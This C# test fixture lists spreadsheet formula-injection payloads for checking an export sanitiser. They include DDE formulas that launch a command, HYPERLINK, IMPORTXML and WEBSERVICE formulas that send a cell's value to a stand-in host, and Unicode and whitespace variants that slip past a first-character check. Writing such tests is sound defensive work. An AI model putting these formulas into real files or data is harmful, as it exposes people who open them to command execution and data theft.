namespace Shiremoot.Tests.Trust;

/// <summary>Text that a spreadsheet would run if it were let: the forms OWASP names, and the ways round a check of the first character only.</summary>
static class FormulaPayloads
{
    public static readonly string[] All =
    [
        "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://example.org/?x=\"&A1,\"click\")", "=IMPORTXML(CONCAT(\"http://example.org/?v=\",A1),\"//a\")", "=WEBSERVICE(\"http://example.org\")",
        "=DDE(\"cmd\";\"/C calc\";\"x\")", "=IMAGE(\"http://example.org/a.png\")", "=1+1\";=1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "\0=1+1", " =1+1",
        "\u00A0=1+1", "\u200B=1+1", "\uFEFF=1+1", "\u3000=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", " \t \u200B＝1+1", "-5", "+44 121 496 0000", "-", "=",
        "a;=1+1;b", "a;\"=1+1\";b;=2", "a\n=1+1", "a\r\n+1", "a\t@SUM(1)", "\"=1+1", "x; -1+1",
    ];
}
